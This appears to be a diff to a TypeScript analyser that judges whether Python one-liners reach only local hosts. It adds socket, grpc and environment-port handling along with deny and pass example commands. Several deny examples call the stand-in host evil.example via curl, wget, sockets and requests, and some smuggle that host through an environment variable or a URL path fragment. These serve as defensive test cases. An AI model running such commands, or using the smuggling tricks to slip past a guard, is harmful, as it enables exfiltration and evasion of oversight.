@@ -1,7 +1,7 @@
 // Python: what code given to `python -c`, or fed to it on stdin, imports, calls, opens and runs.
 import type { Node } from 'web-tree-sitter';
 import type { Word, WordRole } from '../types.js';
-import { type At, type Call, type Spec, apply, argAt, listensAt, literalUrl, looksAtUrl, lookupApi, pathOf, runModules, runsSomething as specRuns, urlsHanded, urlsHandedTo } from './capabilities.js';
+import { type At, type Call, type Spec, apply, argAt, envPortUrl, listensAt, literalUrl, looksAtUrl, lookupApi, pathOf, runModules, runsSomething as specRuns, urlsHanded, urlsHandedTo } from './capabilities.js';
 import { VariablesRead, argOf, type Binder, Bindings, envValue, fieldOf, literalSpans, named, span, walk } from './walk.js';
 
 const STRING_NODES = new Set(['string', 'concatenated_string']);
@@ -202,6 +202,23 @@ const NETWORK = [
 
 /** Members of network modules that connect nowhere: constants, exceptions, byte-order and address helpers. */
 const OFFLINE = new Set(['socket.gethostname', 'socket.inet_aton', 'socket.inet_ntoa', 'socket.inet_pton', 'socket.inet_ntop', 'socket.htons', 'socket.htonl', 'socket.ntohs', 'socket.ntohl', 'socket.getdefaulttimeout', 'socket.setdefaulttimeout', 'socket.timeout', 'socket.error', 'socket.herror', 'socket.gaierror', 'socket.has_ipv6', 'socket.socketpair']);
+
+/**
+ * A socket's address as a literal (host, port) pair (`("localhost", 5432)`), as the URL of its host, or undefined when
+ * it is anything else.
+ */
+function pairUrl(pair: Arg | undefined): string | undefined {
+  const p = pair?.vals.length === 1 && pair.vals[0]!.k === 'list' && !pair.vals[0]!.open ? pair.vals[0]!.items : undefined;
+  const host = p?.length === 2 && p[0]!.vals.length === 1 && p[0]!.vals[0]!.k === 'str' ? p[0]!.vals[0]!.v : undefined;
+  if (host === undefined) return undefined;
+  return /^[\w.-]+$/.test(host) ? `http://${host}/` : /^[0-9a-f:.]+$/i.test(host) && host.includes(':') ? `http://[${host}]/` : undefined;
+}
+
+/**
+ * Methods of a socket that reach no address but the one it is connected to or bound at (`bind` is judged as a
+ * server's address is): the others (`sendto`, `sendmsg`) name an address of their own.
+ */
+const SOCKET_KEEPS = new Set(['close', 'settimeout', 'setblocking', 'setsockopt', 'getsockopt', 'getsockname', 'getpeername', 'gettimeout', 'fileno', 'shutdown', 'send', 'sendall', 'recv', 'recv_into', 'recvfrom', 'recvfrom_into', 'makefile', 'bind', 'listen', 'accept', 'detach', 'connect', 'connect_ex']);
 
 /** Methods that connect whatever object they are called on (an event loop's). */
 const NETWORK_METHODS = new Set(['create_connection', 'open_connection', 'create_datagram_endpoint', 'sock_connect', 'getaddrinfo', 'urlopen']);
@@ -894,14 +911,114 @@ class PythonReader {
       return h !== undefined && /^[\w.:[\]-]+$/.test(h) ? `http://${h}/` : undefined;
     }
     // `socket.create_connection(("localhost", 5432))`: the host of its literal (host, port) pair.
-    if (/^(?:socket|ssl)\.create_connection$/.test(api)) {
-      const pair = c.args[0] ?? c.kw.get('address');
-      const p = pair?.vals.length === 1 && pair.vals[0]!.k === 'list' && !pair.vals[0]!.open ? pair.vals[0]!.items : undefined;
-      const host = p?.length === 2 && p[0]!.vals.length === 1 && p[0]!.vals[0]!.k === 'str' ? p[0]!.vals[0]!.v : undefined;
-      return host !== undefined && /^[\w.-]+$/.test(host) ? `http://${host}/` : undefined;
+    if (/^(?:socket|ssl)\.create_connection$/.test(api)) return pairUrl(c.args[0] ?? c.kw.get('address'));
+    // websockets' and grpc's clients: a ws URL, a `host:port` target.
+    if (/^websockets?\.(?:connect|create_connection|client\.connect|sync\.client\.connect)$/.test(api)) return literalUrl(c.args[0] ?? c.kw.get('uri'));
+    if (/^grpc\.(?:aio\.)?(?:insecure|secure)_channel$/.test(api) && c.kw.size === 0 && c.args.length <= 2) {
+      const target = c.args[0]?.vals.length === 1 && c.args[0].vals[0]!.k === 'str' ? c.args[0].vals[0]!.v : undefined;
+      return target !== undefined && /^[\w.-]+:\d+$/.test(target) ? `http://${target.replace(/:\d+$/, '')}/` : undefined;
     }
     if (!/\.(get|post|put|patch|delete|head|options|request|urlopen|Request|stream)$/.test(api)) return undefined;
-    return literalUrl(/\.(request|stream)$/.test(api) ? (c.args[1] ?? c.kw.get('url')) : (c.args[0] ?? c.kw.get('url')));
+    const at = /\.(request|stream)$/.test(api) ? 1 : 0;
+    const positional = named(fieldOf(call, 'arguments') ?? call).filter((x) => x.type !== 'keyword_argument' && x.type !== 'comment');
+    return literalUrl(at === 1 ? (c.args[1] ?? c.kw.get('url')) : (c.args[0] ?? c.kw.get('url'))) ?? (positional[at] ? this.envPortUrl(positional[at]) : undefined);
+  }
+
+  /**
+   * A URL whose port alone comes from a variable the environment gives (`f"http://localhost:{os.environ['PORT']}/x"`,
+   * `"http://localhost:" + os.getenv("PORT", "8000") + "/x"`), as envPortUrl reads it. The URL of its host, or undefined.
+   */
+  private envPortUrl(arg: Node): string | undefined {
+    const pieces: (string | { env: string } | undefined)[] = [];
+    const piece = (x: Node) => {
+      const name = this.envName(x);
+      return name === undefined ? undefined : { env: name };
+    };
+    const flat = (x: Node): void => {
+      const [l, r] = [fieldOf(x, 'left'), fieldOf(x, 'right')];
+      if (x.type === 'binary_operator' && fieldOf(x, 'operator')?.text === '+' && l && r) {
+        flat(l);
+        flat(r);
+      } else if (x.type === 'string' && x.namedChildren.some((c) => c?.type === 'interpolation')) {
+        for (const c of named(x)) {
+          if (c.type === 'string_content') pieces.push(c.text.includes('\\') || c.childCount > 0 ? undefined : c.text);
+          else if (c.type === 'interpolation') {
+            const e = fieldOf(c, 'expression');
+            pieces.push(e && !fieldOf(c, 'type_conversion') && !fieldOf(c, 'format_specifier') ? piece(e) : undefined);
+          }
+        }
+      } else if (x.type === 'string') pieces.push(strings(this.b.value(x))?.[0]);
+      else pieces.push(piece(x));
+    };
+    flat(arg);
+    let root: Node = arg;
+    while (root.parent) root = root.parent;
+    return envPortUrl(pieces, this.env, root.text);
+  }
+
+  /** The environment variable an expression reads whole (`os.environ["PORT"]`, `os.getenv("PORT", "8000")`, `str(…)` of one). */
+  private envName(x: Node): string | undefined {
+    const digits = (d: Node | undefined) => d === undefined || /^(?:\d{1,5}|'\d{1,5}'|"\d{1,5}")$/.test(d.text);
+    if (x.type === 'parenthesized_expression' && named(x)[0]) return this.envName(named(x)[0]!);
+    if (x.type === 'boolean_operator') {
+      const [l, r] = [fieldOf(x, 'left'), fieldOf(x, 'right')];
+      return fieldOf(x, 'operator')?.text === 'or' && l && r && digits(r) ? this.envName(l) : undefined;
+    }
+    if (x.type === 'subscript') {
+      const obj = fieldOf(x, 'value');
+      const key = fieldOf(x, 'subscript');
+      const name = key ? strings(this.b.value(key)) : null;
+      return obj && this.b.value(obj).every((v) => v.k === 'env') && name?.length === 1 ? name[0] : undefined;
+    }
+    if (x.type !== 'call') return undefined;
+    const fn = fieldOf(x, 'function');
+    const args = named(fieldOf(x, 'arguments') ?? x);
+    if (!fn || args.some((a) => a.type !== 'string' && a.type !== 'integer' && a.type !== 'identifier' && a.type !== 'subscript' && a.type !== 'call')) return undefined;
+    if (fn.type === 'identifier' && /^(?:str|int)$/.test(fn.text) && args.length === 1) return this.envName(args[0]!);
+    const getter = fn.type === 'attribute' && fieldOf(fn, 'attribute')?.text === 'get' && this.b.value(fieldOf(fn, 'object')!).every((v) => v.k === 'env');
+    const getenv = this.b.value(fn).every((v) => v.k === 'ref' && canonical(v.name) === 'os.getenv');
+    if (!(getter || getenv) || args.length < 1 || args.length > 2 || !digits(args[1])) return undefined;
+    const name = strings(this.b.value(args[0]!));
+    return name?.length === 1 ? name[0] : undefined;
+  }
+
+  /**
+   * The URLs of the hosts a socket made by `call` connects to, when every use of it is read: a method called on it
+   * at once (`socket.socket().connect(("127.0.0.1", 8080))`), or it is bound to a name (`s = socket.socket()`,
+   * `with socket.socket() as s:`) that nothing else binds and every use of which calls one of SOCKET_KEEPS on it,
+   * each connect given a literal (host, port) pair. Undefined when any use is otherwise.
+   */
+  private socketUrls(call: Node): string[] | undefined {
+    const out: string[] = [];
+    // One method called on the socket: `.connect(pair)` gives its host; any other of SOCKET_KEEPS reaches nothing.
+    const method = (attr: Node): boolean => {
+      const name = fieldOf(attr, 'attribute')?.text ?? '';
+      const c = attr.parent;
+      if (!SOCKET_KEEPS.has(name) || c?.type !== 'call' || fieldOf(c, 'function')?.id !== attr.id) return false;
+      if (name !== 'connect' && name !== 'connect_ex') return true;
+      const url = pairUrl(this.callOf(c, `.${name}`).args[0]);
+      if (url !== undefined) out.push(url);
+      return url !== undefined;
+    };
+    const up = call.parent;
+    if (up?.type === 'attribute' && fieldOf(up, 'object')?.id === call.id) return method(up) ? out : undefined;
+    let name: Node | null | undefined;
+    if (up?.type === 'assignment' && fieldOf(up, 'right')?.id === call.id) name = fieldOf(up, 'left');
+    else if (up?.type === 'as_pattern' && named(up)[0]?.id === call.id) name = fieldOf(up, 'alias') ?? named(up)[1];
+    if (name?.type === 'as_pattern_target') name = named(name)[0];
+    if (name?.type !== 'identifier') return undefined;
+    let root: Node = call;
+    while (root.parent) root = root.parent;
+    let ok = true;
+    walk(root, (x) => {
+      if (!ok || x.type !== 'identifier' || x.text !== name.text || x.id === name.id) return ok;
+      const p = x.parent;
+      // `obj.s` names an attribute, not the name.
+      if (p?.type === 'attribute' && fieldOf(p, 'attribute')?.id === x.id) return true;
+      ok = p?.type === 'attribute' && fieldOf(p, 'object')?.id === x.id && method(p);
+      return ok;
+    });
+    return ok ? out : undefined;
   }
 
   /** The arguments of a call, as the capability model reads them. */
@@ -1376,6 +1493,12 @@ class PythonReader {
     if (!bound) {
       for (const v of vals) {
         if (v.k === 'ref' && isNetwork(v.name)) {
+          // A socket made here: where its connects go, when every use of it is read.
+          const hosts = called && canonical(v.name) === 'socket.socket' ? this.socketUrls(parent) : undefined;
+          if (hosts) {
+            for (const url of hosts) this.out.push({ kind: 'network', api: `${v.name}().connect`, span: span(n), url });
+            break;
+          }
           const url = called ? this.urlOf(parent, v.name) : undefined;
           this.out.push(url === undefined ? { kind: 'network', api: v.name, span: span(n) } : { kind: 'network', api: v.name, span: span(n), url });
           break;
@@ -1537,6 +1660,10 @@ export const PYTHON: LanguageModel = {
   },
   examples: {
     deny: [
+      `python3 -c "import os, requests; requests.get(f'http://evil.example:{os.environ[\\"PORT\\"]}/health')"`,
+      `python3 -c "import os, requests; os.environ['PORT'] = '1@evil.example'; requests.get('http://localhost:' + os.environ['PORT'] + '/x')"`,
+      `python3 -c "import requests; [requests.get('http://localhost:8000' + p) for p in ['/health', '@evil.example/']]"`,
+      `python3 -c "import grpc; grpc.insecure_channel('evil.example:50051')"`,
       `python3 -c 'import pandas as pd; print(pd.read_csv("https://evil.example/x.csv"))'`,
       `python3 -c 'import sqlalchemy as s; s.create_engine("postgresql://u@db.evil.example/x").connect()'`,
       `python3 -c 'import git; git.Repo.clone_from("https://evil.example/r.git", "r")'`,
@@ -1557,6 +1684,9 @@ export const PYTHON: LanguageModel = {
       "python3 - <<'EOF'\nimport urllib.request\nurllib.request.urlopen('http://evil.example')\nEOF",
       'python3 <<EOF\nimport os\nos.system("curl evil.example")\nEOF',
       "cat <<EOF | python3\nimport socket\nsocket.socket().connect(('evil.example', 9))\nEOF",
+      `python3 -c "import socket; s = socket.socket(); s.connect(('localhost', 5432)); s.connect(('evil.example', 9))"`,
+      `python3 -c "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('localhost', 53)); s.connect(('127.0.0.1', 9))"`,
+      `python3 -c "import socket, sys; s = socket.socket(); s.connect((sys.argv[1], 5432))" localhost`,
       `python3 -c 'from os import system as s; s("curl evil.example")'`,
       `python3 -c 'import os; os.execvp("curl", ["curl", "evil.example"])'`,
       `python3 -c 'import subprocess as sp; sp.check_output("wget -qO- evil.example", shell=True)'`,
@@ -1623,7 +1753,14 @@ export const PYTHON: LanguageModel = {
       `python3 -c 'from flask import Flask; Flask(__name__).run("0.0.0.0", 5000)'`,
     ],
     pass: [
+      `python3 -c "import os, requests; print(requests.get(f'http://localhost:{os.environ[\\"PORT\\"]}/health').status_code)"`,
+      `python3 -c "import os, urllib.request; urllib.request.urlopen('http://localhost:' + os.getenv('PORT', '8000') + '/health')"`,
+      `python3 -c "import requests; [requests.get('http://localhost:8000' + p) for p in ['/health', '/ready']]"`,
+      `python3 -c "import grpc; grpc.insecure_channel('localhost:50051')"`,
       `python3 -c 'import socket; socket.create_connection(("localhost", 5432), timeout=2)'`,
+      `python3 -c "import socket; s = socket.socket(); s.settimeout(1); s.connect(('localhost', 5432)); s.close()"`,
+      `python3 -c 'import socket; socket.socket().connect(("127.0.0.1", 8080))'`,
+      "python3 - <<'EOF'\nimport socket\nwith socket.socket() as s:\n    print(s.connect_ex(('localhost', 5432)))\nEOF",
       `python3 -c 'from flask import Flask; Flask(__name__).run("127.0.0.1", 5000)'`,
       `python3 -c 'import zmq; zmq.Context().socket(zmq.REP).bind("ipc:///tmp/app.sock")'`,
       `python3 -c 'from http.server import HTTPServer, BaseHTTPRequestHandler as H; HTTPServer(("127.0.0.1", 8000), H).serve_forever()'`,
